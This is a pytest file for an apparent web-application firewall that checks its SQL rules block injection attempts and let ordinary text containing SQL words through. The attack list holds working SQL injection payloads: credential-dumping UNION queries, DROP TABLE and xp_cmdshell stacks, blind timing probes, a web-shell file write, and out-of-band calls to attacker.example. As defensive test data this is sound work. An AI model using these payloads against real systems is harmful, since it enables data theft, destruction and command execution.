"""Rule key SQL: SQL injection must block at Standard, everyday text with SQL words must pass.

The engine here holds only the SQL rules (with the default policy), so a benign case proves
that SQL stays quiet regardless of what other keys think of it, and every test runs on both
scanner twins.
"""

from __future__ import annotations

from urllib.parse import quote, quote_plus

import pytest

from airlock_filters import Request

from . import requests as build
from .requests import Place, blocked_keys, quote_all

KEY = "SQL"
HOST = "shop"


def query(value: str) -> Request:
    return build.query(value, "id", path="/products", encode=quote_all, host=HOST)


def double_encoded(value: str) -> Request:
    return query(quote_all(value))


def form(value: str) -> Request:
    return build.form(
        value, "username", path="/login", encode=quote_plus, rest="&remember=1", host=HOST
    )


def json_body(value: str) -> Request:
    return build.json_body({"filter": {"sku": value}, "page": 1}, path="/api/v1/search", host=HOST)


def cookie(value: str) -> Request:
    return build.cookie(value, "sid=abc; pref=", encode=quote, host=HOST)


def user_agent(value: str) -> Request:
    return build.header("User-Agent", value, host=HOST)


def referer(value: str) -> Request:
    return build.header("Referer", value, host=HOST)


def path_segment(value: str) -> Request:
    return build.get(f"/products/{quote_all(value)}/reviews", host=HOST)


def xml_body(value: str) -> Request:
    note = build.xml_document("order", "note", build.xml_text(value, quotes=True))
    return build.xml_body(note, host=HOST)


ATTACKS: list[tuple[Place, str]] = [
    # tautologies after a broken string literal
    (form, "admin' OR '7'='7"),
    (form, 'nobody" or "z"="z'),
    (query, "5' or 3=3-- -"),
    (query, "') OR ('k'='k"),
    (form, "x'or'x'='x"),
    (json_body, "ab' AND 'q' LIKE 'q"),
    (query, "10 AND 88=88"),
    (query, "4 or 2>1"),
    (cookie, "7' || '1'='1"),
    # comments cutting the rest of the query off
    (form, "root'--"),
    (form, "root'#"),
    (query, "guest')/*"),
    # UNION based, with the usual disguises
    (query, "-3 UNION ALL SELECT NULL,NULL,NULL-- -"),
    (query, "9 union select username,password from accounts"),
    (query, "2/**/UnIoN/**/SeLeCt/**/1,2"),
    (query, "0 union%0Aselect 1,2"),
    (query, "8 /*!50000UNION*/ /*!50000SELECT*/ 1,2"),
    (double_encoded, "1' union select table_name from information_schema.tables-- -"),
    (path_segment, "12 union select 1,version()"),
    # stacked queries
    (query, "3; DROP TABLE orders--"),
    (form, "x'; insert into admins (name) values ('eve')--"),
    (query, "1; exec master..xp_cmdshell 'whoami'"),
    (query, "1; declare @x varchar(50); set @x='a'; exec(@x)"),
    # time based
    (query, "6 AND SLEEP(7)"),
    (query, "6' and (select 1 from (select(sleep(4)))z)-- x"),
    (query, "1; WAITFOR DELAY '0:0:9'--"),
    (query, "1)||pg_sleep(8)--"),
    (form, "1 and benchmark(4000000,sha1('x'))"),
    # error based and boolean blind
    (query, "3 and extractvalue(7,concat(0x5c,(select user())))"),
    (query, "3 AND updatexml(null,concat(0x3a,database()),null)"),
    (query, "5 and ascii(substring((select pwd from users limit 1),2,1))>77"),
    (query, "5' and if(length(database())>3,sleep(2),0)-- x"),
    (query, "(select case when (4=4) then 1 else 1*(select 1 union select 2) end)"),
    (query, "1 and 7=convert(int,(select top 1 name from sysobjects))"),
    (query, "1::int and version()::int=1"),
    # catalog, files and dangerous procedures
    (form, "sqlite_master"),
    (query, "x' union select load_file('/etc/hosts')-- -"),
    (query, "1 into outfile '/var/www/shell.php'"),
    (json_body, "'; exec xp_dirtree '\\\\attacker.example\\share'--"),
    (query, "utl_http.request('http://attacker.example/')"),
    # functions and operators on their own, as injected into numeric or ORDER BY contexts
    (query, "if(1=1,2,3)"),
    (query, "concat_ws(0x3a,user(),database())"),
    (query, "2 order by 9--"),
    (query, "(select 1)"),
    (query, "1 and login=0x726f6f74"),
    (query, "char(97)+char(100)+char(109)"),
    # other places and encodings
    (user_agent, "Mozilla/5.0' and sleep(5) and '1'='1"),
    (referer, "https://shop/?q=1%27%20union%20select%20null--"),
    (xml_body, "x' or 'v'='v"),
    (xml_body, 'nobody" or "z"="z'),
    (form, "x\u2019 or 1=1-- "),
]

BENIGN: list[tuple[Place, str]] = [
    (query, "select your size"),
    (query, "union station parking"),
    (query, "union square restaurants"),
    (form, "Please drop it at the front desk; thanks!"),
    (query, "drop-down menu not working"),
    (query, "order by price"),
    (json_body, "It's the union of comfort and style - order by Friday for delivery."),
    (form, "O'Brien"),
    (form, "Siobhan O'Brien-Smith"),
    (query, "don't"),
    (query, "1-2 days"),
    (query, "Ballon d'Or winners like Messi"),
    (query, "L'Oréal Paris"),
    (json_body, "Is it 'yes' or not?"),
    (json_body, "The 'or' operator and the 'and' operator"),
    (json_body, "the parents' and teachers' association"),
    (query, "He is 6' 2\" or 6' 3\""),
    (query, "sleep timer for baby"),
    (query, "sleep (8 hours) and exercise"),
    (query, "exec chair leather"),
    (query, "how to delete my account"),
    (query, "update firmware on router"),
    (query, "Date (UTC)"),
    (query, "Left (WA, RR)"),
    (json_body, "Weitere Namen sind Haßfelt (1599) und Herslo (1475)."),
    (query, "in (stock)"),
    (query, "credit union checking"),
    (json_body, "Select from over 40 colours and update your order"),
    (json_body, "x = 1 and y = 2"),
    (query, "what is 2 + 2 = 4"),
    (query, "Rock 'n' roll -- the best of the '90s"),
    (json_body, "Tom & Jerry (1940) as seen from the couch"),
    (query, "C:\\Users\\Bob\\file (1).pdf"),
    (form, "https://example.com/path?a=1&b=2&order=asc"),
    (
        cookie,
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    ),
    (form, "mpn5x9oDOXR1xa0oG9ofZyqw/OR8gRtKS1oTSFOOCU8="),
    (
        user_agent,
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
    ),
    (json_body, '<p>Hello <b>world</b>, see <a href="https://example.com/?a=1&b=2">this</a></p>'),
    (query, "50% off!!! (today only)"),
    (query, "5 stars - would buy again!"),
]


@pytest.mark.parametrize(("place", "payload"), ATTACKS)
def test_attack_blocks_at_standard(implementation: str, place: Place, payload: str) -> None:
    assert KEY in blocked_keys(KEY, "Standard", implementation, place(payload))


@pytest.mark.parametrize(("place", "payload"), BENIGN)
def test_benign_passes_at_standard(implementation: str, place: Place, payload: str) -> None:
    assert blocked_keys(KEY, "Standard", implementation, place(payload)) == set()


@pytest.mark.parametrize(
    "payload",
    [
        "-1 union select 1,2,3",
        "1; drop table users",
        "1 and extractvalue(1,0x7e)",
        "pg_sleep(5)",
        "x' or '1'='1",
        "1/*!12345select*/",
        "information_schema.columns",
        "1 waitfor delay '0:0:5'",
    ],
)
def test_basic_catches_the_unmistakable(implementation: str, payload: str) -> None:
    assert KEY in blocked_keys(KEY, "Basic", implementation, query(payload))


@pytest.mark.parametrize("payload", ["admin'--", "5 and 2=2", "9 order by 4--"])
def test_fragments_need_standard(implementation: str, payload: str) -> None:
    assert blocked_keys(KEY, "Basic", implementation, query(payload)) == set()
    assert KEY in blocked_keys(KEY, "Standard", implementation, query(payload))


@pytest.mark.parametrize(
    "payload", [">=", "order by", "x' ; y", "nvarchar", "'\"", "cheese and ", "count (5)"]
)
def test_strict_only(implementation: str, payload: str) -> None:
    assert blocked_keys(KEY, "Standard", implementation, query(payload)) == set()
    assert KEY in blocked_keys(KEY, "Strict", implementation, query(payload))
